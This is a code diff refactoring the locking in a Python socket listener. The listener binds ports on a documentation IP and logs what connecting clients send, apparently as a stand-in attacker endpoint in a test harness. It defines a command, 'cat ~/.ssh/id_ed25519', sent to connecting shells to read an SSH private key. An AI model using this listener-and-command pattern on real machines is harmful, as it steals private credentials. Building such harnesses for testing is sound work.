@@ -14,7 +14,7 @@ import subprocess
 import sys
 import threading
 
-from net_drain import drained
+from net_drain import drained, taken
 
 ADDRESS = "203.0.113.7"
 COMMAND = b"cat ~/.ssh/id_ed25519\nexit\n"
@@ -23,10 +23,14 @@ lock = threading.Lock()
 connections = []
 
 
-def take(conn, port):
+def noted(port):
     mine = {"port": port, "bytes": ""}
-    with lock:
-        connections.append(mine)
+    connections.append(mine)
+    return mine
+
+
+def take(conn, mine):
+    port = mine["port"]
     conn.settimeout(5)
     try:
         if port == 4445:
@@ -53,9 +57,8 @@ def listen(port):
     server = socket.create_server((ADDRESS, port), backlog=64)
 
     def serve():
-        while True:
-            conn, _ = server.accept()
-            threading.Thread(target=take, args=(conn, port), daemon=True).start()
+        for connection in taken(server, lock, lambda _: noted(port)):
+            threading.Thread(target=take, args=connection, daemon=True).start()
     threading.Thread(target=serve, daemon=True).start()
 
 
@@ -66,8 +69,7 @@ def main():
         listen(port)
     print('"ready"', flush=True)
     for line in sys.stdin:
-        drained()
-        with lock:
+        with drained(lock):
             if line.strip() == "reset":
                 connections.clear()
             print(json.dumps(connections), flush=True)
